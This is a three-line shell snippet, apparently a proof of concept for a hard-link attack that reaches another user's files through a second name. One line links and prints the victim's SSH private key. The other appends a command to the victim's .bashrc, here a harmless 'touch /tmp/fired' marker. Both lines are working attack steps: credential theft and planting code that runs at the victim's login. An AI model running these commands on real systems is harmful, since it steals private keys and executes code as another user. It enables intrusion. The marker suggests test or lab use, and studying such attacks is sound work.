# A second name for a file that cannot be read under its own.
ln "$VICTIM_HOME/.ssh/id_ed25519" key && cat key
ln "$VICTIM_HOME/.bashrc" rc && echo 'touch /tmp/fired' >>rc
